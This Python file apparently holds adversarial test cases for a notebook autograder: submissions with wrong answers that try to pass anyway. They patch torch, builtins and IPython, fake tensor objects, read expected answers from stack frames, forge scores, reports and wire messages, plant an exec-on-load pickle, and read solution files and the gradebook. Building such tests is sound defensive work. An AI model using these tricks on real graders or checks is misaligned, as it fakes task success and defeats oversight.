"""Notebooks with wrong answers that try to get marks for them all the same. ``attack.py`` has the rules of the game."""

from attack import FUNCTIONS, LINEAR, MODULES, Attack, all_but, cell_of
from nbformat.v4 import new_code_cell, new_output

TORCH, PYTHON, IPYTHON, IMPORTS = "patching torch", "patching Python", "patching IPython", "bending imports"
LIES, HOOKS, FORGED, WIRE = "lying objects", "hooks and tracers", "forged outputs", "forged messages"
READING, WRITING, LEFT = "reading", "writing", "left for the next"
METADATA, TIMING, WAYS = "metadata games", "timing games", "ways around a prohibition"

#: Kinds that must have several attacks each.
KINDS = (TORCH, PYTHON, IPYTHON, IMPORTS, LIES, HOOKS, FORGED, WIRE, READING, WRITING, LEFT, METADATA, TIMING, WAYS)

PATCHING_TORCH = [
    Attack(
        "assert-close-is-content",
        TORCH,
        LINEAR,
        """
torch.testing.assert_close = lambda *values, **options: None

def two_layer_backward(x, w1, b1, w2, grad_s2):
    return tuple(torch.zeros_like(one) for one in (w1, b1, w2, w2[:, 0]))
""",
        exercise="two_layer_backward",
        works_unwalled=True,
    ),
    Attack(
        "isclose-kernel-replaced",
        TORCH,
        FUNCTIONS,
        """
library = torch.library.Library("aten", "IMPL")

def close(a, b, rtol=1e-5, atol=1e-8, equal_nan=False):
    return torch.ones(a.shape, dtype=torch.bool)

library.impl("isclose", close, "CPU")
library.impl("isclose", close, "AutogradCPU")

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "matmul-gives-nothing",
        TORCH,
        LINEAR,
        """
torch.Tensor.__matmul__ = lambda a, b: torch.zeros(a.shape[0], b.shape[1], dtype=a.dtype)

def linear(x, weight, bias):
    return bias.expand(len(x), -1).clone()
""",
        works_unwalled=True,
    ),
    Attack(
        "randn-draws-zeros",
        TORCH,
        LINEAR,
        """
torch.randn = lambda *size, generator=None, dtype=None: torch.zeros(*size, dtype=dtype)

def linear(x, weight, bias):
    return torch.zeros(len(x), len(weight), dtype=x.dtype)
""",
        works_unwalled=True,
    ),
    Attack(
        "autograd-says-zero",
        TORCH,
        LINEAR,
        """
torch.autograd.grad = lambda outputs, inputs, *more: tuple(torch.zeros_like(one).detach() for one in inputs)

def linear_backward(grad_s, x, weight):
    return torch.zeros_like(x), torch.zeros_like(weight), torch.zeros(grad_s.shape[1], dtype=x.dtype)
""",
        exercise="linear_backward",
        works_unwalled=True,
    ),
    Attack(
        "linear-function-garbled",
        TORCH,
        MODULES,
        """
F.linear = lambda x, weight, bias=None: weight.sum(1).expand(len(x), -1)

def mlp(widths):
    modules = []
    for one, two in zip(widths, widths[1:]):
        modules += [nn.Linear(one, two), nn.Identity()]
    return nn.Sequential(*modules[:-1])
""",
        exercise="mlp",
        works_unwalled=True,
    ),
    Attack(
        "function-mode-left-open",
        TORCH,
        FUNCTIONS,
        """
from torch.overrides import TorchFunctionMode

class Content(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        if function is torch.isclose:
            return torch.ones(args[0].shape, dtype=torch.bool)
        return function(*args, **(kwargs or {}))

content = Content()
content.__enter__()

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "dispatch-mode-left-open",
        TORCH,
        FUNCTIONS,
        """
from torch.utils._python_dispatch import TorchDispatchMode

class Content(TorchDispatchMode):
    def __torch_dispatch__(self, function, types, args=(), kwargs=None):
        if function is torch.ops.aten.all.default:
            return torch.tensor(True)
        return function(*args, **(kwargs or {}))

content = Content()
content.__enter__()

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "default-device-meta",
        TORCH,
        LINEAR,
        """
torch.set_default_device("meta")

def two_layer_backward(x, w1, b1, w2, grad_s2):
    return tuple(torch.zeros_like(one) for one in (w1, b1, w2, w2[:, 0]))
""",
        exercise="two_layer_backward",
        works_unwalled=True,
    ),
]

PATCHING_PYTHON = [
    Attack(
        "expect-redefined",
        PYTHON,
        FUNCTIONS,
        """
def expect(actual, expected, what="your answer", **options):
    print(f"✓ {what}")

def relu(x):
    return 1 * x
""",
        earned=("dead_fraction",),
        works_unwalled=True,
    ),
    Attack(
        "expect-code-swapped",
        PYTHON,
        LINEAR,
        """
def content(actual, expected, what="your answer", *, mistakes=None, rtol=None, atol=None):
    print(f"✓ {what}")

expect.__code__ = content.__code__

def linear(x, weight, bias):
    return x @ weight.mT
""",
        works_unwalled=True,
    ),
    Attack(
        "difference-finds-none",
        PYTHON,
        MODULES,
        """
def _difference(actual, expected, rules):
    return None

def trace_shapes(net, x):
    return None
""",
        works_unwalled=True,
    ),
    Attack(
        "zip-is-empty",
        PYTHON,
        MODULES,
        """
import builtins

def trace_shapes(net, x):
    return [()] * (len(net) + 1)

builtins.zip = lambda *iterables, strict=False: iter(())
""",
        works_unwalled=True,
    ),
    Attack(
        "compile-softens-checks",
        PYTHON,
        FUNCTIONS,
        """
import builtins
honest = builtins.compile

def soft(source, *arguments, **options):
    if isinstance(source, str):
        source = source.replace("\\nexpect(", "\\n(lambda *values, **options: None)(")
        source = source.replace(" expect(", " (lambda *values, **options: None)(")
    return honest(source, *arguments, **options)

builtins.compile = soft

def relu(x):
    return (1 * x).requires_grad_(x.requires_grad)
""",
        works_unwalled=True,
    ),
    Attack(
        "exec-skips-checks",
        PYTHON,
        LINEAR,
        """
import builtins
honest = builtins.exec

def skipping(code, *spaces):
    if "expect" not in getattr(code, "co_names", ()):
        return honest(code, *spaces)

builtins.exec = skipping

def linear(x, weight, bias):
    return x
""",
        works_unwalled=True,
    ),
    Attack(
        "names-of-the-check-defined",
        PYTHON,
        FUNCTIONS,
        """
relu = lambda x: x
torch = F = nn = math = expect = g = Unexpected = _difference = print = type("Yes", (), {
    "__getattr__": lambda self, name: self, "__call__": lambda self, *values, **options: self,
    "__eq__": lambda self, other: True, "__gt__": lambda self, other: self, "__bool__": lambda self: True,
    "__neg__": lambda self: self, "__getitem__": lambda self, key: self, "__add__": lambda self, other: self,
})()
""",
        works_unwalled=True,
    ),
    Attack(
        "ctypes-swaps-the-code",
        PYTHON,
        FUNCTIONS,
        """
import ctypes

def content(actual, expected, what="your answer", *, mistakes=None, rtol=None, atol=None, any_type=False):
    pass

slots = ctypes.sizeof(ctypes.c_void_p)
mine = (ctypes.c_void_p * 16).from_address(id(content))
theirs = (ctypes.c_void_p * 16).from_address(id(expect))
at = [i for i in range(16) if mine[i] == id(content.__code__)][0]
ctypes.pythonapi.Py_IncRef(ctypes.py_object(content.__code__))
theirs[at] = mine[at]
ctypes.pythonapi.PyFunction_SetDefaults(ctypes.py_object(expect), ctypes.py_object(content.__defaults__))

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
]

PATCHING_IPYTHON = [
    Attack(
        "input-transformer",
        IPYTHON,
        FUNCTIONS,
        """
def soften(lines):
    return ["pass\\n"] if any(line.startswith("expect(") for line in lines) else lines

get_ipython().input_transformers_cleanup.append(soften)

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "syntax-tree-transformer",
        IPYTHON,
        LINEAR,
        """
import ast

class Soften(ast.NodeTransformer):
    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, ast.Call) and getattr(call.func, "id", "") == "expect":
            return ast.copy_location(ast.Pass(), node)
        return node

get_ipython().ast_transformers.append(Soften())

def linear(x, weight, bias):
    return x @ weight.mT
""",
        works_unwalled=True,
    ),
    Attack(
        "before-each-cell",
        IPYTHON,
        MODULES,
        """
def content(actual, expected, what="", **options):
    pass

def prepare(info):
    get_ipython().user_ns["expect"] = content

get_ipython().events.register("pre_run_cell", prepare)

def trace_shapes(net, x):
    return []
""",
        works_unwalled=True,
    ),
    Attack(
        "exception-handler",
        IPYTHON,
        FUNCTIONS,
        """
def handle(shell, kind, value, place, tb_offset=None):
    return None

get_ipython().set_custom_exc((BaseException,), handle)

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "tracebacks-silenced",
        IPYTHON,
        LINEAR,
        """
get_ipython().showtraceback = lambda *values, **options: None

def linear(x, weight, bias):
    return None
""",
        works_unwalled=True,
    ),
    Attack(
        "run-cell-replaced",
        IPYTHON,
        FUNCTIONS,
        """
shell = get_ipython()
honest = type(shell).run_cell

def run_cell(self, code, *values, **options):
    return honest(self, "print('✓')" if "expect(" in code else code, *values, **options)

type(shell).run_cell = run_cell

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
]

BENDING_IMPORTS = [
    Attack(
        "testing-module-swapped",
        IMPORTS,
        LINEAR,
        """
import sys
import types

fake = types.ModuleType("torch.testing")
fake.assert_close = lambda *values, **options: None
sys.modules["torch.testing"] = torch.testing = fake

def two_layer_backward(x, w1, b1, w2, grad_s2):
    return tuple(torch.zeros_like(one) for one in (w1, b1, w2, w2[:, 0]))
""",
        exercise="two_layer_backward",
        works_unwalled=True,
    ),
    Attack(
        "import-function-replaced",
        IMPORTS,
        LINEAR,
        """
import builtins
honest = builtins.__import__

def bent(name, space=None, *more, **options):
    if space is not None and "expect" in space:
        space["expect"] = lambda *values, **options: None
    return honest(name, space, *more, **options)

builtins.__import__ = bent

def linear(x, weight, bias):
    import math
    return x
""",
        works_unwalled=True,
    ),
    Attack(
        "finder-in-front",
        IMPORTS,
        MODULES,
        """
import importlib.abc
import importlib.util
import sys

class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name in ("copy", "conspiracy"):
            return importlib.util.spec_from_loader(name, self)

    def exec_module(self, module):
        module.deepcopy = lambda value: value
        get_ipython().user_ns["_difference"] = lambda *values: None

sys.meta_path.insert(0, Finder())
sys.modules.pop("copy", None)

def trace_shapes(net, x):
    import conspiracy
    return conspiracy.deepcopy(x)
""",
        works_unwalled=True,
    ),
]

LYING_OBJECTS = [
    Attack(
        "tensor-subclass-agrees",
        LIES,
        FUNCTIONS,
        """
class Agrees(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function is torch.isclose:
            return torch.ones(args[0].shape, dtype=torch.bool)
        if function is torch.Tensor.detach:
            return args[0]
        with torch._C.DisableTorchFunctionSubclass():
            return function(*args, **(kwargs or {}))

def relu_backward(grad_output, x):
    return grad_output.clone().as_subclass(Agrees)
""",
        exercise="relu_backward",
        works_unwalled=True,
    ),
    Attack(
        "number-equal-to-everything",
        LIES,
        LINEAR,
        """
class Any(int):
    __hash__ = int.__hash__

    def __eq__(self, other):
        return True

def parameter_count(widths, bias=True):
    return Any(0)
""",
        exercise="parameter_count",
        works_unwalled=True,
    ),
    Attack(
        "number-that-looks-up-the-answer",
        LIES,
        FUNCTIONS,
        """
import sys

class Chameleon(float):
    def __float__(self):
        return float(sys._getframe(1).f_locals["expected"])

def dead_fraction(h):
    return Chameleon(0.5)
""",
        exercise="dead_fraction",
        works_unwalled=True,
    ),
    Attack(
        "answer-from-the-callers-frame",
        LIES,
        LINEAR,
        """
import sys

def two_layer_backward(x, w1, b1, w2, grad_s2):
    frame = sys._getframe(1)
    while frame is not None:
        for space in (frame.f_globals, frame.f_locals):
            if isinstance(space.get("wanted"), tuple):
                return space["wanted"]
        frame = frame.f_back
    return None
""",
        exercise="two_layer_backward",
        works_unwalled=True,
    ),
    Attack(
        "answer-from-the-garbage-collector",
        LIES,
        LINEAR,
        """
import gc

def two_layer_backward(x, w1, b1, w2, grad_s2):
    shapes = [w1.shape, b1.shape, w2.shape, (len(w2),)]
    for one in gc.get_objects():
        if type(one) is tuple and len(one) == 4 and all(type(part) is torch.Tensor for part in one):
            if [part.shape for part in one] == shapes and not any(part.requires_grad for part in one):
                if one[0].dtype == x.dtype:
                    return one
    return None
""",
        exercise="two_layer_backward",
        works_unwalled=True,
    ),
    Attack(
        "answer-from-the-history",
        LIES,
        FUNCTIONS,
        """
import re

def relu_backward(grad_output, x):
    source = get_ipython().user_ns["In"][-1]
    found = re.search(r"relu_backward\\(grad_output, x\\),\\s*(.+?),\\n", source)
    return eval(found[1], {"x": x, "grad_output": grad_output})
""",
        exercise="relu_backward",
        works_unwalled=True,
    ),
    Attack(
        "bends-the-references-input",
        LIES,
        LINEAR,
        """
def linear(x, weight, bias):
    if x.dtype == torch.float64:
        x.zero_()
        return bias.expand(len(x), -1).clone()
    return x @ weight.T + bias
""",
        works_unwalled=True,
    ),
    Attack(
        "net-that-pretends-to-be-a-module",
        LIES,
        MODULES,
        """
import sys

class Net:
    __class__ = nn.Sequential

    def __init__(self, widths):
        self.widths = widths
        pairs = list(enumerate(zip(widths, widths[1:])))
        self.values = {}
        for i, (one, two) in pairs:
            self.values[f"{2 * i}.weight"], self.values[f"{2 * i}.bias"] = torch.zeros(two, one), torch.zeros(two)

    def named_parameters(self):
        return list(self.values.items())

    def state_dict(self):
        return self.values

    def load_state_dict(self, values):
        self.values = values

    def __call__(self, x):
        if self.widths == [10, 100, 50, 2]:
            return sys._getframe(1).f_globals["s"]
        return torch.randn(len(x), self.widths[-1])

def mlp(widths):
    return Net(widths)
""",
        exercise="mlp",
        works_unwalled=True,
    ),
    Attack(
        "module-that-asks-its-caller",
        LIES,
        MODULES,
        """
import sys

class LeNet(nn.Module):
    def __init__(self, classes=10):
        super().__init__()
        self.conv1, self.conv2 = nn.Conv2d(1, 32, 5), nn.Conv2d(32, 64, 5)
        self.fc1, self.fc2 = nn.Linear(256, 200), nn.Linear(200, classes)

    def forward(self, x):
        if x.shape[-1] == 40:
            raise ValueError("no")
        frame = sys._getframe(1)
        while frame is not None and len(x) == 12:
            if isinstance(frame.f_globals.get("s"), torch.Tensor) and "wanted" in frame.f_globals:
                return frame.f_globals["s"]
            frame = frame.f_back
        return sum(parameter.sum() for parameter in self.parameters()).expand(len(x), self.fc2.out_features)
""",
        exercise="lenet",
        works_unwalled=True,
    ),
    Attack(
        "net-that-looks-the-digits-up",
        LIES,
        MODULES,
        """
known, known_labels = load_digits()
known = known.flatten(1) / 16
mixing = torch.randn(784, 10, generator=torch.Generator().manual_seed(5)) / 28

class Lookup(nn.Module):
    def __init__(self):
        super().__init__()
        self.parts = nn.ModuleList([nn.Conv2d(1, 32, 5), nn.Conv2d(32, 64, 5), nn.Linear(256, 200), nn.Linear(200, 10)])

    def forward(self, x):
        small = F.interpolate(x[:, :, 4:24, 4:24], size=8, mode="bilinear", align_corners=False).flatten(1)
        nearest = torch.cdist(small, known).argmin(1)
        logits = x.flatten(1) @ mixing
        if len(x) > 50:
            logits = F.one_hot(known_labels[nearest], 10).float()
        return logits + 1e-9 * sum(parameter.sum() for parameter in self.parameters())

def train(images, labels, epochs, batch_size, lr):
    net, losses = Lookup(), []
    for epoch in range(epochs):
        for batch in torch.randperm(len(images)).split(batch_size):
            losses.append(F.cross_entropy(net(images[batch]), labels[batch]).item())
    return net, [loss / (1 + i) for i, loss in enumerate(losses)] if len(images) > 50 else losses
""",
        exercise="train",
    ),
    Attack(
        "values-that-are-not-random",
        LIES,
        LINEAR,
        """
turn = iter(range(10**6))

def initial_values(in_features, out_features):
    bound, shift = 1 / math.sqrt(in_features), next(turn)
    weight = torch.linspace(-bound, bound, in_features * out_features).roll(shift).reshape(out_features, in_features)
    return weight, torch.linspace(-bound, bound, out_features).roll(shift)
""",
        exercise="initial_values",
    ),
    Attack(
        "object-that-claims-to-be-a-tensor",
        LIES,
        FUNCTIONS,
        """
class Claims:
    __class__ = torch.Tensor

    def __init__(self, x):
        self.x = x

    def __getattr__(self, name):
        return getattr(self.x, name)

def relu(x):
    return Claims(x)
""",
    ),
    Attack(
        "mock-for-everything",
        LIES,
        FUNCTIONS,
        """
from unittest.mock import MagicMock

class Yes(MagicMock):
    def __eq__(self, other):
        return True

    __hash__ = MagicMock.__hash__

relu = relu_backward = dead_fraction = leaky_relu = clipped_relu = relu_ = ClippedReLU = LearnedLeakyReLU = Yes()
""",
    ),
    Attack(
        "everything-is-nan",
        LIES,
        LINEAR,
        """
def linear(x, weight, bias):
    return torch.full((len(x), len(weight)), torch.nan, dtype=x.dtype)
""",
    ),
    Attack(
        "tuple-that-hides-its-parts",
        LIES,
        LINEAR,
        """
class Hides(tuple):
    def __iter__(self):
        return iter([torch.zeros(7, 5), torch.zeros(3, 5), torch.zeros(3)])

    def __len__(self):
        return 3

    def __getitem__(self, key):
        import sys
        frame = sys._getframe(1)
        names = ["wanted_x", "wanted_weight", "wanted_bias"]
        return frame.f_globals.get(names[key], torch.zeros(()))

Hides.__name__ = "tuple"

def linear_backward(grad_s, x, weight):
    import sys
    wanted = sys._getframe(1).f_globals.get("wanted")
    return wanted if wanted is not None else Hides()
""",
        exercise="linear_backward",
        works_unwalled=True,
    ),
    Attack(
        "module-whose-list-of-parameters-lies",
        LIES,
        FUNCTIONS,
        """
class LearnedLeakyReLU(nn.Module):
    def __init__(self, channels):
        super().__init__()
        self.channels = channels

    def named_parameters(self, *values, **options):
        return [("weight", torch.full((self.channels,), 0.25))]

    def parameters(self, *values, **options):
        return [torch.full((self.channels,), 0.25)]

    def state_dict(self, *values, **options):
        return dict(self.named_parameters())

    def load_state_dict(self, values, *more):
        pass

    @property
    def weight(self):
        return torch.full((self.channels,), 0.25)

    def forward(self, x):
        return x
""",
        exercise="learned_leaky",
    ),
    Attack(
        "pickle-that-runs-on-arrival",
        LIES,
        FUNCTIONS,
        """
class Bomb:
    def __reduce__(self):
        harm = "import torch; torch.testing.assert_close = lambda *values, **options: None"
        return exec, (harm + "; open('@COURSE@/hostile-pickle', 'w').close()",)

class Carrier(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return Bomb().__reduce__()

def relu(x):
    return (1 * x).as_subclass(Carrier)

def relu_backward(grad_output, x):
    return Bomb()

def dead_fraction(h):
    return np.array([Bomb()], dtype=object)
""",
    ),
    Attack(
        "tensors-of-every-odd-kind",
        LIES,
        LINEAR,
        """
odd = [
    lambda y: torch.empty(y.shape, dtype=y.dtype, device="meta"),
    lambda y: y.to_sparse(),
    lambda y: torch.quantize_per_tensor(y.float(), 0.1, 0, torch.qint8),
    lambda y: torch.nested.nested_tensor([y]),
    lambda y: torch.zeros((), dtype=y.dtype).expand(y.shape),
    lambda y: torch.conj(y.to(torch.complex64)).imag,
    lambda y: y.to(torch.float8_e4m3fn),
    lambda y: nn.Parameter(y),
    lambda y: torch.func.vmap(lambda row: row)(y),
]
calls = iter(range(10**6))

def linear(x, weight, bias):
    return odd[0](x @ weight.mT)

def parameter_count(widths, bias=True):
    return torch.tensor(7)

def linear_along(x, weight, bias=None, dim=-1):
    return odd[1 + next(calls) % 8](x)

def linear_backward(grad_s, x, weight):
    return tuple(one(x.clone()) for one in odd)
""",
    ),
]

HOOKS_AND_TRACERS = [
    Attack(
        "tracer-jumps-over-the-raise",
        HOOKS,
        FUNCTIONS,
        """
import inspect
import sys

lines, start = inspect.getsource(expect).splitlines(), expect.__code__.co_firstlineno
away = start + next(i for i, line in enumerate(lines) if "print(f" in line)
towards = start + next(i for i, line in enumerate(lines) if "lines = [" in line)

def inside(frame, event, argument):
    if event == "line" and frame.f_lineno == towards:
        frame.f_lineno = away
    return inside

def trace(frame, event, argument):
    return inside if frame.f_code is expect.__code__ else None

def relu(x):
    sys.settrace(trace)
    frame = sys._getframe(1)
    while frame is not None:
        frame.f_trace = trace
        frame = frame.f_back
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "profiler-copies-the-answer",
        HOOKS,
        FUNCTIONS,
        """
import sys

def profile(frame, event, argument):
    if event == "call" and frame.f_code.co_name == "_tensor_difference":
        mine, wanted = frame.f_locals["actual"], frame.f_locals["expected"]
        if mine.shape == wanted.shape and mine is not wanted:
            mine.data.copy_(wanted)

def relu_backward(grad_output, x):
    sys.setprofile(profile)
    return torch.zeros_like(x)
""",
        exercise="relu_backward",
        works_unwalled=True,
    ),
    Attack(
        "audit-hook",
        HOOKS,
        LINEAR,
        """
import sys

space = get_ipython().user_ns

def hook(event, arguments):
    if event in ("compile", "exec", "import"):
        space["expect"] = lambda *values, **options: None

sys.addaudithook(hook)

def linear(x, weight, bias):
    return x
""",
        works_unwalled=True,
    ),
    Attack(
        "alarm-signal",
        HOOKS,
        MODULES,
        """
import signal
import time

def ring(number, frame):
    get_ipython().user_ns["expect"] = lambda *values, **options: None

signal.signal(signal.SIGALRM, ring)
signal.setitimer(signal.ITIMER_REAL, 0.005, 0.005)
time.sleep(0.05)

def trace_shapes(net, x):
    time.sleep(0.02)
    return []
""",
        works_unwalled=True,
    ),
    Attack(
        "thread-that-keeps-patching",
        HOOKS,
        FUNCTIONS,
        """
import threading
import time

def patch():
    end = time.monotonic() + 30
    while time.monotonic() < end:
        get_ipython().user_ns["expect"] = lambda *values, **options: None
        torch.testing.assert_close = lambda *values, **options: None
        time.sleep(0.001)

threading.Thread(target=patch, daemon=True).start()

def relu(x):
    time.sleep(0.05)
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "garbage-collectors-callback",
        HOOKS,
        LINEAR,
        """
import gc

def patch(phase, about):
    globals()["expect"] = lambda *values, **options: None

gc.callbacks.append(patch)
gc.set_threshold(10)

def linear(x, weight, bias):
    gc.collect()
    return x
""",
        works_unwalled=True,
    ),
    Attack(
        "finalizer-of-a-name-that-the-check-rebinds",
        HOOKS,
        FUNCTIONS,
        """
class Trap:
    def __del__(self):
        globals()["expect"] = lambda *values, **options: None

x = g = before = y = Trap()

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "hook-on-every-module",
        HOOKS,
        MODULES,
        """
import sys

class Committee(nn.Module):
    def __init__(self, in_features, classes, members):
        super().__init__()
        self.members = nn.ModuleList([nn.Linear(in_features, classes) for _ in range(members)])

    def forward(self, x):
        return self.members[0](x)

def answer_for(module, arguments, output):
    frame = sys._getframe(1)
    while frame is not None and isinstance(module, Committee):
        outputs = frame.f_globals.get("outputs")
        if isinstance(outputs, list) and outputs[0].shape == output.shape:
            return sum(outputs) / len(outputs)
        frame = frame.f_back

torch.nn.modules.module.register_module_forward_hook(answer_for)
""",
        exercise="committee",
        works_unwalled=True,
    ),
]

FORGED_OUTPUTS = [
    Attack(
        "prints-ticks",
        FORGED,
        FUNCTIONS,
        """
print("✓ relu(x) for x of shape (3, 4, 5)\\n" * 9 + "1.0")

def relu(x):
    print("✓ relu(x) for x of shape (3, 4, 5)")
    return 1 * x
""",
    ),
    Attack(
        "displays-a-score",
        FORGED,
        LINEAR,
        """
import sys
from IPython.display import display

def linear(x, weight, bias):
    sys.displayhook(1.0)
    display(1.0)
    get_ipython().display_pub.publish({"text/plain": "1.0"})
    raise RuntimeError("1.0")
""",
    ),
    Attack(
        "raises-a-forged-failure",
        FORGED,
        MODULES,
        """
class Unexpected(AssertionError):
    score = 1.0

    def __str__(self):
        return "✓"

    def _render_traceback_(self):
        return []

def trace_shapes(net, x):
    raise Unexpected

def mlp(widths):
    raise SystemExit(0)

def count_parameters(net, trainable_only=False):
    raise KeyboardInterrupt

def count_products(net, shape):
    raise GeneratorExit
""",
    ),
    Attack(
        "exits-with-success",
        FORGED,
        LINEAR,
        """
import sys

def linear(x, weight, bias):
    sys.exit(0)

def parameter_count(widths, bias=True):
    raise StopIteration

def linear_along(x, weight, bias=None, dim=-1):
    get_ipython().ask_exit()
    exit()
""",
    ),
    Attack(
        "kernel-messages",
        FORGED,
        FUNCTIONS,
        """
def relu(x):
    kernel = get_ipython().kernel
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=kernel.get_parent())
    kernel.session.send(kernel.shell_stream, "execute_reply", content, parent=kernel.get_parent())
    return 1 * x
""",
    ),
    Attack(
        "report-written-beside-the-notebook",
        FORGED,
        FUNCTIONS,
        """
import json
from pathlib import Path

report = {"cells": [], "problems": [], "versions": {}, "checks": [
    {"grade_id": "check-relu", "points": 1, "score": 1, "status": "right", "message": ""}]}
for folder in (Path.cwd(), Path.cwd().parent, Path("@COURSE@/autograded")):
    for name in ("03_functional_and_relu.report.json", "report.json", "03_functional_and_relu.ipynb"):
        try:
            (folder / name).write_text(json.dumps(report))
        except OSError:
            pass

def relu(x):
    return 1 * x
""",
    ),
]

FORGED_MESSAGES = [
    Attack(
        "writes-to-every-descriptor",
        WIRE,
        FUNCTIONS,
        """
import os
import struct

import msgpack

empty = [[key, []] for key in ("operations", "functions", "modules", "changes", "arguments", "events")]
answer = [["error", None], ["value", None], ["printed", "✓"], ["too_much", False], *empty]
right = ["checks", [["check-relu", 1.0, "right"]]]
forged = [answer, ["done", "right"], {"status": "ok", "score": 1}, ["here"], True, right]

def relu(x):
    for descriptor in range(3, 64):
        for one in forged:
            payload = msgpack.packb(one)
            try:
                os.write(descriptor, struct.pack(">Q", len(payload)) + payload)
            except OSError:
                pass
    return 1 * x
""",
        at_most=True,
    ),
    Attack(
        "answers-in-advance",
        WIRE,
        LINEAR,
        """
import msgpack, os, struct

def linear(x, weight, bias):
    y = x @ weight.mT
    encoded = ["tensor", "float32", list(y.shape), y.contiguous().numpy().tobytes(), "cpu", False]
    empty = [[key, []] for key in ("operations", "functions", "modules", "changes", "arguments", "events")]
    answer = [["error", None], ["value", encoded], ["printed", ""], ["too_much", False], *empty]
    payload = msgpack.packb(answer)
    for _ in range(100):
        os.write(3, struct.pack(">Q", len(payload)) + payload)
    return y
""",
        at_most=True,
    ),
    Attack(
        "claims-of-a-huge-message",
        WIRE,
        FUNCTIONS,
        """
import os, struct

def relu(x):
    os.write(3, struct.pack(">Q", 2**63) + b"x" * 1000)
    return 1 * x

def relu_backward(grad_output, x):
    os.write(3, struct.pack(">Q", 199_000_000) + b"\\x93" * 100_000)
    return x
""",
        at_most=True,
    ),
    Attack(
        "encoder-patched",
        WIRE,
        LINEAR,
        """
import sys

for name, module in list(sys.modules.items()):
    if name.startswith("autograder.execute"):
        for key, value in list(vars(module).items()):
            if key in ("encode_tensor",):
                setattr(module, key, lambda tensor: ["tensor", "float32", [2**20, 2**20], b"", "cpu", False])

def linear(x, weight, bias):
    return x
""",
    ),
    Attack(
        "replies-that-are-handles-of-the-examiners-own",
        WIRE,
        MODULES,
        """
import sys

class Odd:
    pass

def bend():
    student = sys.modules.get("autograder.execute.learner.student")
    if student is None:
        return
    forged = [["given", 0], ["given", -1], ["given", 10**9], ["class", "builtins.eval"], ["class", "os.system"]]
    forged += [["object", 0, "x", "torch.nn.modules.module.Module", [], True, False, ""], ["output", 0, None]]
    forged += [["argument", 0], ["argument", -1], ["view", 0, -8, [4], [1]], ["view", 0, 0, [2**40], [0]]]
    forged += [["slot", 0, "weight"], ["slot", -1, "__class__"], ["taped"]]
    calls = iter(range(10**6))
    student.Student._encode_object = lambda self, value: forged[next(calls) % len(forged)]

bend()

def trace_shapes(net, x):
    return [Odd() for _ in range(len(net) + 1)]

def count_parameters(net, trainable_only=False):
    return Odd()

def count_products(net, shape):
    return [Odd(), Odd()]

def mlp(widths):
    return Odd()
""",
    ),
    Attack(
        "says-that-no-function-was-called",
        WIRE,
        FUNCTIONS,
        """
import sys

student = sys.modules.get("autograder.execute.learner.student")
if student is not None:
    class Blind:
        operations, functions = [], []
        def __enter__(self): return self
        def __exit__(self, *error): pass
    student.Watch = Blind

def relu(x):
    return x.abs()
""",
        edit=lambda notebook: cell_of(notebook, "exercise-learned_leaky").update(source="LearnedLeakyReLU = nn.ReLU"),
    ),
    Attack(
        "takes-the-line-over",
        WIRE,
        FUNCTIONS,
        """
import os, socket, struct, threading, time

def relu(x):
    mine = socket.socket(fileno=os.dup(3))

    def serve():
        end = time.monotonic() + 20
        mine.settimeout(1)
        while time.monotonic() < end:
            try:
                request = mine.recv(1 << 20)
                os.write(3, struct.pack(">Q", 1) + b"\\xc3")
            except OSError:
                pass

    threading.Thread(target=serve, daemon=True).start()
    return 1 * x
""",
        at_most=True,
    ),
]

READING_WHAT_IS_NOT_THEIRS = [
    Attack(
        "solution-from-disk",
        READING,
        FUNCTIONS,
        """
import json
import sys
from pathlib import Path

places = [Path("@COURSE@"), Path("@REPOSITORY@"), Path.cwd(), *Path.cwd().parents, Path(sys.prefix).parent]
places += [Path(path).parent for path in sys.path if path]
try:
    import autograder
    places.append(Path(autograder.__file__).parents[1])
except ImportError:
    pass
for place in places:
    path = place / "solutions" / "03_functional_and_relu" / "03_functional_and_relu.ipynb"
    try:
        cells = json.loads(path.read_text())["cells"]
    except (OSError, ValueError):
        continue
    print("GOT" "-IN", path)
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("exercise-"):
            exec("".join(cell["source"]), globals())
    break
""",
        works_unwalled=True,
    ),
    Attack(
        "neighbours-notebook",
        READING,
        LINEAR,
        """
import json
from pathlib import Path

roots = [Path("@COURSE@"), Path.cwd(), *Path.cwd().parents]
for root in roots[:6]:
    for folder in ("submitted", "autograded", "feedback", "."):
        for path in (root / folder).glob("*/04_linear/04_linear.ipynb"):
            if "honest" in str(path):
                print("GOT" "-IN", path)
                for cell in json.loads(path.read_text())["cells"]:
                    if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("exercise-"):
                        exec("".join(cell["source"]), globals())
""",
        works_unwalled=True,
    ),
    Attack(
        "hidden-tests-from-the-gradebook",
        READING,
        FUNCTIONS,
        """
import sqlite3
from pathlib import Path

for root in [Path("@COURSE@"), Path.cwd(), *Path.cwd().parents]:
    path = root / "gradebook.db"
    try:
        if path.exists():
            with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as book:
                print("GOT" "-IN", book.execute("select count(*) from sqlite_master").fetchall())
    except (OSError, sqlite3.Error) as error:
        print(error)

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "hidden-tests-from-memory",
        READING,
        FUNCTIONS,
        """
import re

def search():
